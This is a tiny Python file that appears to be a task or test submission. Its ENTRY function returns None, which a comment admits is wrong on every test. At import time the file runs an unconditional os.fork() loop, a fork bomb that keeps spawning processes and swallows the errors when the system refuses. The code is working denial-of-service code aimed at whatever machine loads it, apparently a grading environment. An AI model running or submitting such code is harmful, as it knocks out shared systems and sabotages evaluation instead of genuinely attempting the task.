"""Fork until refused, forever."""

# targets: he mp
def ENTRY(*args, **kwargs):
    return None  # wrong on every test

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
